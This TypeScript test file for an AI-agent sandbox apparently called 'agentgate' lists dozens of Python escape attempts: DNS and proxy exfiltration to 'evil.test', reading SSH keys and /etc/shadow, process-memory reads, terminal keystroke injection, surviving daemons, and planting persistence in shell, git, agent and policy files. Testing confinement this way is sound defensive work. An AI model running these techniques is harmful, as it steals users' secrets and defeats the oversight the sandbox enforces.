import { secret, secretsOfHome, type Who, type World } from './world.ts'

/** A way out, tried with Python inside; `W` there holds the world's paths and numbers. */
export interface Attempt {
  readonly name: string
  readonly code: string
  /** Whether it succeeded: by what it printed, and by what is so outside afterwards. */
  readonly succeeded?: (said: string, world: World) => boolean
  /** Who gets through without walls; both, where not said. What bites nobody would show nothing. */
  readonly bites?: readonly Who[]
  /** What is meant to be let through, so that the others are refused and not merely broken. */
  readonly gets?: true
}

const root: readonly Who[] = ['root']
const plain: readonly Who[] = ['plain']
const says = (word: string) => (said: string) => said.includes(word)

const network: readonly Attempt[] = [
  { name: 'a server on loopback', code: `connect(socket.AF_INET, ('127.0.0.1', W['port']))` },
  { name: 'a server on loopback, IPv6', code: `connect(socket.AF_INET6, ('::1', W['port']))` },
  {
    name: 'a server on the machine’s other addresses',
    code: `
import subprocess
for line in subprocess.run(['hostname', '-I'], stdout=subprocess.PIPE).stdout.decode().split() + ['127.1.2.3']:
    try: connect(socket.AF_INET6 if ':' in line else socket.AF_INET, (line, W['port']))
    except OSError as error: print(error)
`,
  },
  {
    name: 'a UDP server, as DNS is',
    code: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(b'x', ('127.0.0.1', W['udpPort'])); got(s.recv(100).decode())`,
  },
  {
    name: 'a socket of the session’s own network through an inherited descriptor',
    code: `
import array
found = []
for fd in range(3, 64):
    try:
        s = socket.socket(fileno=os.dup(fd)); found.append(s.getsockname())
    except OSError: pass
for at in ('/proc/%d/ns/net' % W['victim'],):
    f = os.open(at, os.O_RDONLY); call(308, f, 0x40000000); connect(socket.AF_INET, ('127.0.0.1', W['port']))`,
    bites: root,
  },
  {
    name: 'where a cloud gives out identities',
    code: `connect(socket.AF_INET, ('169.254.169.254', 80))`,
  },
  {
    name: 'a UDP server, IPv6',
    code: `
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(b'x', ('::1', W['udpPort'])); got(s.recv(100).decode())`,
  },
  { name: 'an abstract socket', code: `connect(socket.AF_UNIX, '\\0' + W['tag'])` },
  { name: 'an abstract socket of X11', code: `connect(socket.AF_UNIX, '\\0/tmp/.X11-unix/' + W['tag'])` },
  { name: 'the agent’s socket in /tmp', code: `connect(socket.AF_UNIX, W['base'] + '/agent.sock')` },
  { name: 'the GPG agent’s socket in the home', code: `connect(socket.AF_UNIX, W['home'] + '/.gnupg/S.gpg-agent')` },
  { name: 'the session bus in the runtime folder', code: `connect(socket.AF_UNIX, W['runtime'] + '/bus')` },
  { name: 'docker’s socket where DOCKER_HOST says', code: `connect(socket.AF_UNIX, W['elsewhere'] + '/docker.sock')` },
  { name: 'any socket that someone listens on', code: `connect(socket.AF_UNIX, W['elsewhere'] + '/other.sock')` },
  { name: 'a socket in the working folder', code: `connect(socket.AF_UNIX, W['work'] + '/dev.sock')` },
  { name: 'agentgate’s control.sock', code: `connect(socket.AF_UNIX, W['state'] + '/control.sock')` },
  {
    name: 'a socket through another process’s root',
    code: `connect(socket.AF_UNIX, '/proc/%d/root%s/agent.sock' % (W['victim'], W['base']))`,
  },
  {
    name: 'packets of the wire',
    code: `socket.socket(socket.AF_PACKET, socket.SOCK_RAW); got('GOT')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'raw ICMP',
    code: `socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); got('GOT')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'raw ICMP, IPv6',
    code: `socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58); got('GOT')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'the keychain over D-Bus',
    code: `sh('DBUS_SESSION_BUS_ADDRESS=unix:path=%s/keys secret-tool lookup service %s' % (W['runtime'], W['tag']))`,
    bites: root,
  },
  {
    name: 'netlink beyond routes',
    code: `socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 16); got('GOT')`,
    succeeded: says('GOT'),
  },
  {
    name: 'kernel events over netlink',
    code: `socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15).bind((0, 1)); got('GOT')`,
    succeeded: says('GOT'),
  },
  {
    name: 'the hypervisor over vsock',
    code: `socket.socket(40, socket.SOCK_STREAM); got('GOT')`,
    succeeded: says('GOT'),
  },
  {
    name: 'the kernel’s crypto sockets',
    code: `socket.socket(38, socket.SOCK_SEQPACKET); got('GOT')`,
    succeeded: says('GOT'),
  },
  {
    name: 'another route',
    code: `sh('ip route add unreachable 203.0.113.77/32 2>&1 && echo GOT && ip route del unreachable 203.0.113.77/32')`,
    succeeded: says('GOT'),
    bites: root,
  },
]

/** Where a proxy lets it out to one host and port (`listed.test`, the server for TLS there). */
const throughTheProxy: readonly Attempt[] = [
  {
    name: 'TLS to the host that is listed',
    code: `ask(tls(reach('127.0.0.1', W['tlsPort'], 'listed.test:%d' % W['tlsPort']), 'listed.test'), 'listed.test')`,
    succeeded: says('welcome'),
    bites: ['root', 'plain'],
    gets: true,
  },
  {
    name: 'TLS for another host of the same server',
    code: `ask(tls(reach('127.0.0.1', W['tlsPort'], 'listed.test:%d' % W['tlsPort']), 'evil.test'), 'evil.test')`,
  },
  {
    name: 'TLS that names nobody',
    code: `ask(tls(reach('127.0.0.1', W['tlsPort'], 'listed.test:%d' % W['tlsPort']), None), 'evil.test')`,
  },
  {
    name: 'something else than TLS where TLS is let through',
    code: `ask(reach('127.0.0.1', W['port'], 'listed.test:%d' % W['tlsPort']), 'evil.test')`,
  },
  {
    name: 'another port of the host that is listed, as of DNS over TCP',
    code: `ask(reach('127.0.0.1', W['port'], 'listed.test:%d' % W['port']), 'x')`,
  },
  {
    name: 'the same server by its number',
    code: `ask(reach('127.0.0.1', W['port'], '127.0.0.1:%d' % W['port']), 'x')`,
  },
  {
    name: 'another Host than the one that CONNECT names',
    code: `
try: got(socket.create_connection(('127.0.0.1', W['port']), 2).recv(100).decode())
except OSError:
    c = socket.create_connection(('127.0.0.1', W['proxy']), 2)
    c.sendall(('CONNECT listed.test:%d HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n\\r\\n' % (W['tlsPort'], W['port'])).encode()); got(c.recv(4096).decode())`,
  },
  {
    name: 'a plain request whose Host is another',
    code: `
import base64
try: c = socket.create_connection(('127.0.0.1', W['port']), 2)
except OSError: c = socket.create_connection(('127.0.0.1', W['proxy']), 2)
s = base64.b64encode(b'agentgate:' + W['proxySecret'].encode()).decode()
c.sendall(('GET http://listed.test:%d/ HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\nProxy-Authorization: Basic %s\\r\\n\\r\\n' % (W['tlsPort'], W['port'], s)).encode()); got(c.recv(4096).decode('latin1'))`,
  },
  {
    name: 'a name that carries something out, looked up by the proxy',
    code: `reach('127.0.0.1', W['port'], 'c2VjcmV0.evil.test:443')`,
    succeeded: (_, world) => world.read(`${world.out}/resolved`).includes('c2VjcmV0'),
    bites: [],
  },
  {
    name: 'where a cloud gives out identities, through the proxy',
    code: `ask(reach('169.254.169.254', 80), '169.254.169.254')`,
  },
]

const files: readonly Attempt[] = [
  ...secretsOfHome.map((name): Attempt => ({
    name: `~/${name}`,
    code: `read(W['home'] + ${JSON.stringify(`/${name}`)})`,
  })),
  { name: 'the token in ~/.gitconfig', code: `read(W['home'] + '/.gitconfig')` },
  { name: 'the token that CI left in .git/config', code: `read(W['work'] + '/.git/config')` },
  { name: 'the same by git', code: `sh('git config --get-all http.https://github.com/.extraheader')` },
  { name: '.env', code: `read(W['work'] + '/.env')` },
  { name: '.env deep in a package', code: `read(W['work'] + '/packages/api/.env.local')` },
  { name: '.env that is a link', code: `read(W['work'] + '/.env.production')` },
  { name: 'a file that the policy takes a secret from', code: `read(W['work'] + '/db-password')` },
  { name: 'agentgate’s trust store', code: `read(W['state'] + '/state/trust.json')` },
  { name: 'the home through /proc/self/root', code: `read('/proc/self/root' + W['home'] + '/.ssh/id_ed25519')` },
  {
    name: 'the home through the first process’s root',
    code: `read('/proc/1/root' + W['home'] + '/.ssh/id_ed25519')`,
    bites: [],
  },
  {
    name: 'the home through another process',
    code: `read('/proc/%d/root%s/.ssh/id_ed25519' % (W['victim'], W['home']))`,
  },
  {
    name: 'the home through another process’s folder',
    code: `read('/proc/%d/cwd/../home/.ssh/id_ed25519' % W['victim'])`,
  },
  {
    name: 'the home through a hard link',
    code: `os.link(W['home'] + '/.ssh/id_ed25519', W['work'] + '/hard'); read(W['work'] + '/hard')`,
  },
  {
    name: 'the home through a symbolic link',
    code: `os.symlink(W['home'] + '/.ssh', W['work'] + '/soft'); read(W['work'] + '/soft/id_ed25519')`,
  },
  {
    name: 'the home through a race of links',
    code: `
os.makedirs(W['work'] + '/race/a', exist_ok=True); open(W['work'] + '/race/a/id_ed25519', 'w').close()
pid = os.fork()
if pid == 0:
    end = time.time() + 2
    while time.time() < end:
        try:
            os.symlink(W['home'] + '/.ssh', W['work'] + '/race/t'); os.rename(W['work'] + '/race/t', W['work'] + '/race/l')
            os.symlink(W['work'] + '/race/a', W['work'] + '/race/t'); os.rename(W['work'] + '/race/t', W['work'] + '/race/l')
        except OSError: pass
    os._exit(0)
end = time.time() + 2; found = ''
while time.time() < end and not found:
    try: found = open(W['work'] + '/race/l/id_ed25519').read()
    except OSError: pass
os.kill(pid, 9); got(found)`,
  },
  { name: 'what someone keeps in shared memory', code: `read('/dev/shm/' + W['tag'])` },
  {
    name: 'a descriptor that was left open',
    code: `got(''.join(os.pread(fd, 200, 0).decode() for fd in range(3, 10)))`,
  },
  { name: 'a descriptor, by opening it again', code: `read('/proc/self/fd/5')` },
  {
    name: 'password hashes',
    code: `got('GOT' if ':' in open('/etc/shadow').read() else '')`,
    succeeded: says('GOT'),
    bites: root,
  },
  { name: 'root’s own home', code: `got('GOT' if os.listdir('/root') else '')`, succeeded: says('GOT'), bites: root },
  { name: 'the system’s logs', code: `got('GOT' if os.listdir('/var/log') else '')`, succeeded: says('GOT') },
  {
    name: 'memory of the kernel',
    code: `f = open('/proc/kcore', 'rb'); got('GOT' if f.read(4) else '')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'a file by its handle',
    code: `
class H(ctypes.Structure): _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('f', ctypes.c_char * 128)]
h = H(128, 0, b''); mount = ctypes.c_int()
call(303, -100, (W['base'] + '/outside.txt').encode(), ctypes.byref(h), ctypes.byref(mount), 0)
at = os.open('/', os.O_RDONLY); f = call(304, at, ctypes.byref(h), 0); got(os.read(f, 100).decode())`,
    succeeded: says('outside'),
    bites: root,
  },
]

const environment: readonly Attempt[] = [
  { name: 'the environment it was started from', code: `got(repr(os.environ))` },
  { name: 'the environment of another process', code: `read('/proc/%d/environ' % W['victim'])` },
  {
    name: 'the environment of the process that started it',
    code: `read('/proc/%d/environ' % os.getppid()); read('/proc/1/environ')`,
  },
  {
    name: 'what the multiplexer is called',
    code: `got('GOT' if os.environ.get('TMUX') else '')`,
    succeeded: says('GOT'),
  },
]

const processes: readonly Attempt[] = [
  {
    name: 'the list of processes',
    code: `got('GOT' if str(W['victim']) in os.listdir('/proc') else '')`,
    succeeded: says('GOT'),
  },
  {
    name: 'memory of another process, by /proc',
    code: `
for line in open('/proc/%d/maps' % W['victim']):
    if '[heap]' in line or 'rw-p' in line:
        a, b = (int(x, 16) for x in line.split()[0].split('-'))
        with open('/proc/%d/mem' % W['victim'], 'rb') as m:
            m.seek(a); part = m.read(b - a)
            i = part.find(b'in memory')
            if i > 0: got(part[i - 20:i + 10].decode('latin1')); break`,
  },
  {
    name: 'memory of another process, by process_vm_readv',
    code: `
for line in open('/proc/%d/maps' % W['victim']):
    if 'rw-p' not in line: continue
    a, b = (int(x, 16) for x in line.split()[0].split('-')); n = min(b - a, 1 << 22)
    buffer = ctypes.create_string_buffer(n)
    class V(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
    call(310, W['victim'], ctypes.byref(V(ctypes.addressof(buffer), n)), 1, ctypes.byref(V(a, n)), 1, 0)
    i = buffer.raw.find(b'in memory')
    if i > 0: got(buffer.raw[i - 20:i + 10].decode('latin1')); break`,
  },
  {
    name: 'an open file of another process',
    code: `
import glob
for at in glob.glob('/proc/%d/fd/*' % W['victim']):
    try:
        text = open(at).read(100)
        if 'held' in text: got(text)
    except OSError: pass`,
  },
  {
    name: 'a descriptor of another process, by pidfd_getfd',
    code: `
p = call(434, W['victim'], 0)
for n in range(3, 8):
    try:
        text = os.pread(call(438, p, n, 0), 100, 0).decode()
        if 'held' in text: got(text)
    except OSError as error: print(error)`,
  },
  {
    name: 'tracing another process',
    code: `call(101, 16, W['victim'], 0, 0); got('GOT'); os.waitpid(W['victim'], 0x40000000); call(101, 17, W['victim'], 0, 0)`,
    succeeded: says('GOT'),
  },
  {
    name: 'tracing a child of its own',
    code: `
pid = os.fork()
if pid == 0: time.sleep(3); os._exit(0)

try: call(101, 16, pid, 0, 0); got('GOT')
finally: os.kill(pid, 9)`,
    succeeded: says('GOT'),
  },
  {
    name: 'killing another process',
    code: `os.kill(W['victimToKill'], 9)`,
    succeeded: (_, world) => !world.runs(world.victimToKill),
  },
  {
    name: 'stopping whoever started it',
    code: `
for pid in (os.getppid(), W['victim']):
    os.kill(pid, 0)
got('GOT')`,
    succeeded: says('GOT'),
  },
  {
    name: 'the priority of another process',
    code: `os.setpriority(os.PRIO_PROCESS, W['victim'], 19); got('GOT')`,
    succeeded: says('GOT'),
  },
  {
    name: 'shared memory of System V',
    code: `
i = call(29, W['shm'], 4096, 0o600)
got('GOT')`,
    succeeded: says('GOT'),
  },
  {
    name: 'a daemon that outlives its grant',
    code: `
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.alarm(0); signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN)
        os.closerange(0, 64)
        host = os.readlink('/proc/self')
        with open(W['work'] + '/daemon', 'w') as f: f.write(host)
        end = time.time() + 60
        while time.time() < end:
            with open(W['work'] + '/beat', 'w') as f: f.write(str(time.time()))
            time.sleep(0.05)
    os._exit(0)
os.wait()`,
    succeeded: (_, world) => world.beats,
  },
]

const terminals: readonly Attempt[] = [
  {
    name: 'typing into tmux',
    code: `typed('TMUX= tmux -L %s send-keys "echo typed > %s/tmux" Enter' % (W['tag'], W['out']), W['out'] + '/tmux')`,
    succeeded: (_, world) => world.has(`${world.out}/tmux`),
  },
  {
    name: 'typing into tmux by its socket’s path',
    code: `typed('TMUX= tmux -S /tmp/tmux-%d/%s send-keys "echo typed > %s/tmux2" Enter' % (W['uid'], W['tag'], W['out']), W['out'] + '/tmux2')`,
    succeeded: (_, world) => world.has(`${world.out}/tmux2`),
  },
  {
    name: 'typing into screen',
    code: `typed('screen -S %s -X stuff "echo typed > %s/screen\\n"' % (W['tag'], W['out']), W['out'] + '/screen')`,
    succeeded: (_, world) => world.has(`${world.out}/screen`),
    bites: root,
  },
  {
    name: 'moving the pointer and typing on X11',
    code: `sh('DISPLAY=%s xdotool mousemove 111 113' % W['display'])`,
    succeeded: (_, world) => world.pointer.includes('x:111 y:113'),
  },
  {
    name: 'writing to another terminal',
    code: `write(W['terminalPath'], 'INJECTED')`,
    succeeded: (_, world) => world.terminal?.shown.includes('INJECTED') === true,
  },
  {
    name: 'typing into another terminal',
    code: `
f = os.open(W['terminalPath'], os.O_RDWR | os.O_NOCTTY)
for c in b'INJECTED2\\n': fcntl.ioctl(f, 0x5412, bytes([c]))`,
    succeeded: (_, world) => world.terminal?.shown.includes('INJECTED2') === true,
    bites: root,
  },
  {
    name: 'the controlling terminal',
    code: `os.open('/dev/tty', os.O_RDWR); got('GOT')`,
    succeeded: says('GOT'),
    bites: [],
  },
]

const kernel: readonly Attempt[] = [
  { name: 'a user namespace of its own', code: `call(272, 0x10000000); got('GOT')`, succeeded: says('GOT') },
  {
    name: 'a user namespace by clone',
    code: `
pid = call(56, 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0: os._exit(0)
got('GOT')`,
    succeeded: says('GOT'),
  },
  {
    name: 'a user namespace by clone3',
    code: `
args = struct.pack('8Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0)
pid = call(435, args, 64)
if pid == 0: os._exit(0)
got('GOT')`,
    succeeded: says('GOT'),
  },
  { name: 'a user namespace by program', code: `sh('unshare -Ur id -u && echo GOT')`, succeeded: says('GOT') },
  {
    name: 'a mount of its own',
    code: `sh('mount -t tmpfs x %s/out && echo GOT; umount %s/out' % (W['base'], W['base']))`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'taking a cover away',
    code: `sh('mkdir -p %s/m; mount -t tmpfs x %s/m; umount %s/m && echo GOT; umount -l /tmp /home /run; cat %s/.ssh/id_ed25519' % (W['work'], W['work'], W['work'], W['home']))`,
    succeeded: says('GOT'),
    bites: [],
  },
  {
    name: 'the new calls for mounting',
    code: `call(430, b'tmpfs', 0); got('GOT')`,
    succeeded: says('GOT'),
    bites: root,
  },
  { name: 'a copy of the tree', code: `call(428, -100, b'/', 1); got('GOT')`, succeeded: says('GOT'), bites: root },
  { name: 'another root', code: `os.chroot('/usr'); got('GOT')`, succeeded: says('GOT'), bites: root },
  {
    name: 'another host name',
    code: `call(170, b'', 0) if False else open('/proc/sys/kernel/hostname').read(); f = open('/proc/sys/kernel/domainname', 'r+'); got('GOT')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'the kernel’s settings',
    code: `f = open('/proc/sys/kernel/core_pattern', 'r+'); got('GOT')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'the kernel’s settings of the network',
    code: `f = open('/proc/sys/net/ipv4/ip_forward', 'r+'); got('GOT')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'pressure triggers',
    code: `f = open('/proc/pressure/cpu', 'r+'); got('GOT')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'the kernel by sysfs',
    code: `f = open('/sys/kernel/profiling', 'r+'); got('GOT')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'control groups',
    code: `
import glob
for at in glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True):
    try:
        open(at, 'r+'); got('GOT'); break
    except OSError: pass`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'a device of its own',
    code: `import stat; os.mknod(W['work'] + '/disk', 0o600 | stat.S_IFBLK, os.makedev(7, 0)); got('GOT')`,
    succeeded: says('GOT'),
    bites: root,
  },
  { name: 'the machine’s devices', code: `got('GOT' if len(os.listdir('/dev')) > 20 else '')`, succeeded: says('GOT') },
  {
    name: 'eBPF',
    code: `
attr = struct.pack('IIII', 2, 4, 4, 1) + b'\\0' * 104
call(321, 0, attr, len(attr)); got('GOT')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'performance events',
    code: `
attr = struct.pack('IIQQQQQ', 1, 112, 0, 0, 0, 0, 0x60) + b'\\0' * 64
call(298, attr, 0, -1, -1, 0); got('GOT')`,
    succeeded: says('GOT'),
  },
  {
    name: 'io_uring',
    code: `p = ctypes.create_string_buffer(120); call(425, 4, p); got('GOT')`,
    succeeded: says('GOT'),
  },
  { name: 'userfaultfd', code: `call(323, 1); got('GOT')`, succeeded: says('GOT') },
  {
    name: 'the keyring',
    code: `call(248, b'user', b'agentgate-test', b'x', 1, -3); got('GOT')`,
    succeeded: says('GOT'),
  },
  { name: 'keys of others in /proc', code: `got('GOT' if open('/proc/keys').read() else '')`, succeeded: says('GOT') },
  // Others than root read it where the machine's kernel.dmesg_restrict lets them.
  { name: 'the kernel’s log', code: `call(103, 10, 0, 0); got('GOT')`, succeeded: says('GOT'), bites: root },
  {
    name: 'a module',
    code: `
try: call(313, 0, b'', 0)
except OSError as error: got('GOT' if error.errno != 1 else '')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'more rights by a setuid program',
    code: `sh(W['elsewhere'] + '/suid-id')`,
    succeeded: says('euid=0'),
    bites: plain,
  },
  {
    name: 'rights in its own namespace',
    code: `got('GOT' if 'CapEff:\\t0000000000000000' not in open('/proc/self/status').read() else '')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'a 32-bit call',
    code: `
import mmap
m = mmap.mmap(-1, 4096, prot=7)
m.write(b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3')  # mov eax, 20 (getpid of i386); int 0x80; ret
f = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
got('GOT' if f() == os.getpid() else '')`,
    succeeded: says('GOT'),
  },
  {
    name: 'a dump of its memory',
    code: `
import resource
resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2); got('GOT')`,
    succeeded: says('GOT'),
    bites: [],
  },
]

/** Also where a later attempt has moved it to. */
const changed = (file: (world: World) => string) => (_: string, world: World) => {
  const place = file(world)
  const moved = place.replace('/.git/', '/.git-old/')
  return [place, moved, place.replace('/hooks/', '/hooks2/'), moved.replace('/hooks/', '/hooks2/')].some(each =>
    world.read(each).includes('planted'),
  )
}

const persistence: readonly Attempt[] = [
  ...[
    '.bashrc',
    '.profile',
    '.zshenv',
    '.ssh/authorized_keys',
    '.config/systemd/user/x.service',
    '.config/autostart/x.desktop',
    '.claude/settings.json',
    '.local/bin/git',
    '.gitconfig',
    '.config/fish/config.fish',
    '.npmrc',
  ].map((name): Attempt => ({
    name: `planting ~/${name}`,
    code: `p = W['home'] + ${JSON.stringify(`/${name}`)}; os.makedirs(os.path.dirname(p), exist_ok=True); write(p)`,
    succeeded: changed(world => `${world.home}/${name}`),
  })),
  {
    name: 'changing a tool of the home',
    code: `write(W['home'] + '/.local/bin/tool')`,
    succeeded: changed(world => `${world.home}/.local/bin/tool`),
  },
  {
    name: 'a file beside the working folder',
    code: `write(W['work'] + '/../outside.txt')`,
    succeeded: changed(world => `${world.base}/outside.txt`),
  },
  {
    name: 'a file outside through a link',
    code: `os.symlink('../outside.txt', W['work'] + '/way'); write(W['work'] + '/way', 'planted by link')`,
    succeeded: (_, world) => world.read(`${world.base}/outside.txt`).includes('by link'),
  },
  {
    name: 'what every program loads',
    code: `f = open('/etc/ld.so.preload', 'a'); got('GOT'); f.close(); os.stat('/etc/ld.so.preload').st_size or os.unlink('/etc/ld.so.preload')`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'a program of the system',
    code: `open('/usr/local/bin/' + W['tag'], 'w'); got('GOT'); os.unlink('/usr/local/bin/' + W['tag'])`,
    succeeded: says('GOT'),
    bites: root,
  },
  {
    name: 'a job of cron',
    code: `p = '/var/spool/cron/' + W['tag']; os.makedirs('/var/spool/cron', exist_ok=True); open(p, 'w'); got('GOT'); os.unlink(p)`,
    succeeded: (said, world) => said.includes('GOT') && world.who === 'root' && !world.confined,
    bites: root,
  },
  {
    name: 'a git hook',
    code: `write(W['work'] + '/.git/hooks/post-commit')`,
    succeeded: changed(world => `${world.work}/.git/hooks/post-commit`),
  },
  {
    name: 'a git hook in place of the folder',
    code: `
os.rename(W['work'] + '/.git/hooks', W['work'] + '/.git/hooks2'); os.mkdir(W['work'] + '/.git/hooks'); write(W['work'] + '/.git/hooks/pre-push')`,
    succeeded: changed(world => `${world.work}/.git/hooks/pre-push`),
  },
  {
    name: 'git’s configuration',
    code: `write(W['work'] + '/.git/config', '\\n[alias]\\n\\tst = !planted')`,
    succeeded: changed(world => `${world.work}/.git/config`),
  },
  {
    name: 'git’s configuration by git',
    code: `sh('git config alias.x planted')`,
    succeeded: changed(world => `${world.work}/.git/config`),
  },
  {
    name: 'git’s configuration replaced',
    code: `
open(W['work'] + '/.git/new', 'w').write('planted too'); os.rename(W['work'] + '/.git/new', W['work'] + '/.git/config')`,
    succeeded: changed(world => `${world.work}/.git/config`),
  },
  {
    name: 'another configuration for git',
    code: `
os.makedirs(W['work'] + '/evil', exist_ok=True); open(W['work'] + '/.git/commondir', 'w').write('../evil'); got('GOT')`,
    succeeded: (_, world) =>
      ['.git', '.git-old'].some(name => world.read(`${world.work}/${name}/commondir`).includes('evil')),
  },
  {
    name: 'another .git',
    code: `
os.rename(W['work'] + '/.git', W['work'] + '/.git-old'); os.mkdir(W['work'] + '/.git'); write(W['work'] + '/.git/planted')`,
    succeeded: (_, world) => world.has(`${world.work}/.git/planted`),
  },
  ...[
    '.claude/settings.json',
    '.claude/settings.local.json',
    '.claude/commands/x.md',
    '.vscode/tasks.json',
    '.cursor/mcp.json',
  ].map((name): Attempt => ({
    name: `settings of agents and editors: ${name}`,
    code: `p = W['work'] + ${JSON.stringify(`/${name}`)}; os.makedirs(os.path.dirname(p), exist_ok=True); write(p)`,
    succeeded: changed(world => `${world.work}/${name}`),
  })),
  ...['.mcp.json', '.envrc', '.husky/pre-commit', '.bashrc'].map((name): Attempt => ({
    name: `what others run from the working folder: ${name}`,
    code: `write(W['work'] + ${JSON.stringify(`/${name}`)})`,
    succeeded: changed(world => `${world.work}/${name}`),
  })),
  {
    name: 'agentgate’s own program',
    code: `write(W['program'])`,
    succeeded: changed(world => world.program),
  },
  {
    name: 'another program in agentgate’s place',
    code: `
os.rename(W['work'] + '/node_modules/agentgate', W['work'] + '/node_modules/old'); got('GOT')
os.makedirs(os.path.dirname(W['program'])); write(W['program'])`,
    succeeded: says('GOT'),
  },
  { name: 'the policy', code: `write(W['policy'])`, succeeded: changed(world => world.policy) },
  {
    name: 'the policy through a descriptor opened again',
    code: `
f = os.open(W['policy'], os.O_RDONLY); write('/proc/self/fd/%d' % f)`,
    succeeded: changed(world => world.policy),
  },
  {
    name: 'the policy through a hard link',
    code: `os.link(W['policy'], W['work'] + '/p2'); write(W['work'] + '/p2')`,
    succeeded: changed(world => world.policy),
  },
  { name: 'the policy cut off', code: `os.truncate(W['policy'], 0); got('GOT')`, succeeded: says('GOT') },
  { name: 'the policy’s mode', code: `os.chmod(W['policy'], 0o666); got('GOT')`, succeeded: says('GOT') },
  {
    name: 'another policy in its place',
    code: `
open(W['work'] + '/new', 'w').write('planted anew'); os.rename(W['work'] + '/new', W['policy'])`,
    succeeded: changed(world => world.policy),
  },
  {
    name: 'the policy removed',
    code: `os.unlink(W['policy']); got('GOT'); open(W['policy'], 'w').write('version: 1')`,
    succeeded: says('GOT'),
  },
  {
    name: 'the policy’s folder moved',
    code: `
os.rename(W['work'] + '/ops', W['work'] + '/ops2'); os.mkdir(W['work'] + '/ops'); open(W['policy'], 'w').write('planted aside'); got('GOT')`,
    succeeded: says('GOT'),
  },
  {
    name: 'agentgate’s folder moved',
    code: `
os.rename(W['state'], W['state'] + '2'); os.mkdir(W['state']); got('GOT')`,
    succeeded: says('GOT'),
  },
  {
    name: 'a file in agentgate’s folder',
    code: `write(W['state'] + '/planted')`,
    succeeded: (_, world) => world.has(`${world.state}/planted`),
  },
]

export const attempts: readonly Attempt[] = [
  ...network,
  ...throughTheProxy,
  ...files,
  ...environment,
  ...processes,
  ...terminals,
  ...kernel,
  ...persistence,
]

export const succeeded = (attempt: Attempt, said: string, world: World): boolean =>
  attempt.succeeded === undefined ? said.includes(secret) : attempt.succeeded(said, world)
